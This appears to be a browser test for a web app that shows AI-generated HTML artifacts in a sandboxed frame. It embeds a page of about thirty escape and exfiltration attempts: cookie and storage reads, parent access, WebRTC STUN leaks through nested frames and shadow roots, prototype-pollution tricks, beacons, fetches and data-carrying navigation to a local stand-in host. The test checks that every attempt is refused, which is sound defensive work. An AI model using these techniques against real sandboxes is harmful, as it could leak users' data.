import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import { createArtifactRoute } from '#contract/artifacts.ts';
import { expect, test } from '../support/staff.ts';

/** Code that tries everything that code in a page can try, and records the results. */
const attacks = (elsewhere: string, stun: string) => `<!doctype html><title>Attacks</title>
<style>@import '${elsewhere}/style'; body { background: url(${elsewhere}/background) }
@font-face { font-family: x; src: url(${elsewhere}/font) } body { font-family: x }</style>
<link rel=stylesheet href="${elsewhere}/link"><link rel=prefetch href="${elsewhere}/prefetch">
<img src="${elsewhere}/picture"><script src="${elsewhere}/script"></script><iframe src="${elsewhere}/frame"></iframe>
<iframe srcdoc="&lt;script&gt;const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${stun}' }] }); p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer))&lt;/script&gt;"></iframe>
<div><template shadowrootmode=closed><iframe srcdoc="&lt;script&gt;const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${stun}' }] }); p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer))&lt;/script&gt;"></iframe></template></div>
<object data="${elsewhere}/object"></object><video src="${elsewhere}/video"></video>
<pre id=out></pre><form id=form action="${elsewhere}/form"><input name=rows value=1></form>
<script>
const got = {};
const call = "new RTCPeerConnection({ iceServers: [{ urls: 'stun:${stun}' }] })";
const talk = '<script>const p = ' + call + "; p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer))</" + 'script>';
const nested = talk.replaceAll('"', '&quot;');
const inside = (root) => { const frame = document.createElement('iframe'); frame.srcdoc = talk; root.append(frame); };
const plainInside = (root) => { const frame = document.createElement('iframe'); frame.srcdoc = '<p>Another window</p>'; root.append(frame); };
const tries = {
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  session: () => sessionStorage.length,
  database: () => indexedDB.open('x').onsuccess,
  parentDocument: () => parent.document.title,
  parentAddress: () => parent.location.href,
  topNavigation: () => { top.location.href = '${elsewhere}/top'; },
  opened: () => { const w = open('${elsewhere}/window'); if (!w) throw new Error('null'); },
  evaluated: () => eval('1'),
  rtc: () => new RTCPeerConnection(),
  submitted: () => { document.getElementById('form').submit(); throw new Error('silent'); },
  openRoot: () => { inside(document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'open' })); throw new Error('silent'); },
  closedRoot: () => { inside(document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' })); throw new Error('silent'); },
  copiedRoot: () => {
    const host = document.createElement('div');
    const root = host.attachShadow({ mode: 'open', clonable: true });
    root.innerHTML = '<p>x</p>';
    const copy = document.body.appendChild(host.cloneNode(true));
    if (!copy.shadowRoot) throw new Error('none');
    inside(copy.shadowRoot);
  },
  rootBesideArray: () => {
    Object.defineProperty(Array.prototype, 1, { set() {}, get() {}, configurable: true });
    try { plainInside(document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'open' })); } finally { delete Array.prototype[1]; }
    throw new Error('silent');
  },
  rootWithoutWatcher: () => {
    Object.prototype.attributes = false;
    Object.prototype.attributeOldValue = true;
    const host = document.body.appendChild(document.createElement('div'));
    try { host.attachShadow({ mode: 'open' }); } catch {} finally { delete Object.prototype.attributes; delete Object.prototype.attributeOldValue; }
    plainInside(host.shadowRoot);
    throw new Error('silent');
  },
  rootToCopy: () => {
    const host = document.createElement('div');
    Object.prototype.clonable = true;
    try { host.attachShadow({ mode: 'open' }); } finally { delete Object.prototype.clonable; }
    plainInside(document.body.appendChild(host.cloneNode(true)).shadowRoot);
    throw new Error('silent');
  },
  rootWithoutRoom: () => {
    const host = document.body.appendChild(document.createElement('div'));
    const deeper = () => { try { deeper(); } catch { try { if (!host.shadowRoot) host.attachShadow({ mode: 'open' }); } catch {} } };
    deeper();
    plainInside(host.shadowRoot);
    throw new Error('silent');
  },
  channelByCall: () => {
    const { call } = Function.prototype;
    let port;
    Function.prototype.call = function take(one) { port = one; };
    try { window.dispatchEvent(new ErrorEvent('error', { message: 'x' })); } finally { Function.prototype.call = call; }
    if (!(port instanceof MessagePort)) throw new Error('none');
  },
  rootOfText: () => {
    const host = document.body.appendChild(document.createElement('div'));
    host.setHTMLUnsafe('<div><template shadowrootmode=open><iframe srcdoc="' + nested + '"></iframe></template></div>');
  },
  parsedRoot: () => { Document.parseHTMLUnsafe('x'); },
  child: () => { inside(document.body); throw new Error('silent'); },
  childOfText: () => { document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="' + nested + '"></iframe>'); throw new Error('silent'); },
  childWritten: () => { document.write('<ifr'); document.write('ame srcdoc="' + nested + '"></iframe>'); throw new Error('silent'); },
  preconnect: () => {
    const link = document.createElement('link');
    link.rel = 'preconnect';
    link.href = '${elsewhere}';
    document.head.append(link);
    throw new Error('silent');
  },
  speculation: () => {
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${elsewhere}/speculation'] }] });
    document.head.append(rules);
    throw new Error('silent');
  },
  beacon: () => { if (!navigator.sendBeacon('${elsewhere}/beacon')) throw new Error('false'); throw new Error('silent'); },
};
for (const [name, attempt] of Object.entries(tries)) {
  try { got[name] = 'got ' + attempt(); } catch (error) { got[name] = 'refused'; }
}
const later = {
  fetched: fetch('${elsewhere}/fetch'),
  own: fetch('/api/auth/me'),
  imported: import('${elsewhere}/module.js'),
  socket: new Promise((_, no) => { new WebSocket('${elsewhere}'.replace('http', 'ws')).onerror = no; }),
  worker: new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = yes; w.onerror = no; }),
  events: new Promise((_, no) => { new EventSource('${elsewhere}/events').onerror = no; }),
};
(async () => {
  for (const [name, promise] of Object.entries(later)) {
    try { await promise; got[name] = 'got'; } catch { got[name] = 'refused'; }
  }
  parent.postMessage({ type: 'picture', data: 'data:image/png;base64,AAAA' }, '*');
  document.getElementById('out').textContent = JSON.stringify(got);
})();
</script>`;

test.beforeEach(() => {
  // Code is fetched, compiled and drawn in frames, which takes its time on a busy machine.
  test.slow();
});

test.describe('the frame of an artifact', () => {
  test.use({ as: 'manager' });

  test('that tries everything is refused everything', { tag: '@long' }, async ({ page, shop, watch }) => {
    // The browser says in the console what it refused.
    watch.expect(/^console\.error: /, /^console\.warning: /, /^failed /, /^another host: /, /^uncaught: /);
    const reached: string[] = [];
    const elsewhere = createServer((request, response) => {
      reached.push(request.url ?? '');
      response.end('x');
    }).listen(0, '127.0.0.1');
    await once(elsewhere, 'listening');
    let connections = 0;
    elsewhere.on('connection', () => (connections += 1));
    // A nested window would send its WebRTC packets to this address, because WebRTC does not use loopback.
    const own = Object.values(networkInterfaces())
      .flat()
      .find((one) => one?.family === 'IPv4' && !one.internal)?.address;
    let packets = 0;
    const listener = createSocket('udp4').on('message', () => (packets += 1));
    listener.bind(0, '0.0.0.0');
    await once(listener, 'listening');
    const stun = `${own ?? '127.0.0.1'}:${listener.address().port}`;
    const address = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    const show = async (code: string) => {
      const { artifact } = await shop.call(createArtifactRoute, {}, { title: 'Attacks', code, artifact_type: 'html' });
      await page.goto(`/?view=ai-view&artifact=${artifact.id}`);
      return page.frameLocator('iframe');
    };

    const frame = await show(attacks(address, stun));
    await expect(frame.locator('#out')).not.toBeEmpty();
    const got = JSON.parse((await frame.locator('#out').textContent()) ?? '{}') as Record<string, string>;
    expect(Object.entries(got).filter(([, outcome]) => outcome !== 'refused')).toEqual([]);
    expect(Object.keys(got)).toHaveLength(33);
    expect(page.frames()).toHaveLength(2);

    // A frame that was held keeps the thread of the next one busy for 8 s, on a busy machine for longer.
    // Nor is it when it takes away the method by which it would be told on.
    await show(
      `<h1>Leaving</h1><script>Function.prototype.call = () => { throw 0 }; setTimeout(() => { location.href = '${address}/carried?rows=1' }, 100)</script>`,
    );
    await expect(page.getByText('Its code tried to open another address.')).toBeVisible({ timeout: 60_000 });
    expect(page.frames()).toHaveLength(1);

    // It may not navigate itself: it is stopped before the browser looks up the host, whose name would carry rows as well.
    await show(
      `<h1>Leaving</h1><script>setTimeout(() => { location.href = '${address}/carried?rows=1' }, 100)</script>`,
    );
    await expect(page.getByText('Its code tried to open another address.')).toBeVisible({ timeout: 60_000 });
    expect(page.frames()).toHaveLength(1);
    expect([reached, connections, packets]).toEqual([[], 0, 0]);
    await expect(page).toHaveURL(/view=ai-view/);
    elsewhere.close();
    listener.close();
  });
});
